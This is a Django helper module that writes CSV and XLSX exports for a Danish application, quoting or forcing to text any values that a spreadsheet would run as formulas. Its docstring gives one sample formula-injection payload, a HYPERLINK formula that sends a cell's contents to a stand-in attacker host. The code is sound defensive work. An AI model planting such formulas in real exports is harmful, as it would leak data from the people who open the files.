"""The one CSV/XLSX writer: every download of rows (lists, exports, access logs) goes here.

CSV as Danish Excel opens it: UTF-8 with a BOM (without it Excel garbles æøå), ';' between
fields, CRLF line ends; an empty value (None) is an empty field. XLSX: one sheet of the same
rows, numbers as numbers.

Spreadsheet formula injection (OWASP "CSV Injection"): a name such as
`=HYPERLINK("http://evil.example/?d="&B2;"Klik")` would run as a formula when a caseworker
opens the file. Text starting with = + - @, a tab or a carriage return is prefixed with a
single quote in CSV (Excel shows the text, runs nothing); in XLSX every text is a string
cell, never a formula. Numbers and dates stay numbers and dates.
"""

import csv
import io
from collections.abc import Iterable

from django.http import HttpResponse
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

EXPORT_FORMATS = ("csv", "xlsx")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plain(value):
    """A lazy translation (a Danish label) as the text it is; other values unchanged."""
    return str(value) if isinstance(value, Promise) else value


def csv_safe(value):
    """A text that a spreadsheet would read as a formula, made inert; others unchanged."""
    value = _plain(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(*, headers: list, rows: Iterable[list]) -> str:
    """The CSV as text, starting with the BOM; formula-like texts neutralised."""
    out = io.StringIO()
    out.write(BOM)
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([csv_safe(v) for v in headers])
    writer.writerows([csv_safe(v) for v in row] for row in rows)
    return out.getvalue()


def xlsx_append(sheet, row: Iterable) -> None:
    """Append a row to a worksheet (write-only or not) with every text as a string cell:
    openpyxl would otherwise store a text starting with "=" as a live formula."""
    row = [_plain(value) for value in row]
    if hasattr(sheet, "cell"):  # an ordinary worksheet
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if cell.data_type == "f":
                cell.data_type = "s"
        return
    cells = []
    for value in row:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)


def csv_bytes(*, headers: list, rows: Iterable[list]) -> bytes:
    return csv_text(headers=headers, rows=rows).encode("utf-8")


def xlsx_bytes(*, sheet_title: str, headers: list, rows: Iterable[list]) -> bytes:
    """One sheet (title cut to Excel's 31 characters): the headers, then the rows."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])
    xlsx_append(sheet, headers)
    for row in rows:
        xlsx_append(sheet, row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def download(content: bytes | str, *, content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(*, filename: str, headers: list, rows: Iterable[list]) -> HttpResponse:
    """A CSV download; `filename` without its extension."""
    return download(
        csv_bytes(headers=headers, rows=rows),
        content_type=CSV_CONTENT_TYPE,
        filename=f"{filename}.csv",
    )


def table_response(
    *, fmt: str, filename: str, headers: list, rows: Iterable[list], sheet_title: str = ""
) -> HttpResponse:
    """A download of `rows` as CSV or XLSX (`fmt`); the sheet is named for the file unless
    `sheet_title` says otherwise."""
    if fmt == "xlsx":
        return download(
            xlsx_bytes(sheet_title=sheet_title or filename, headers=headers, rows=rows),
            content_type=XLSX_CONTENT_TYPE,
            filename=f"{filename}.xlsx",
        )
    return csv_response(filename=filename, headers=headers, rows=rows)
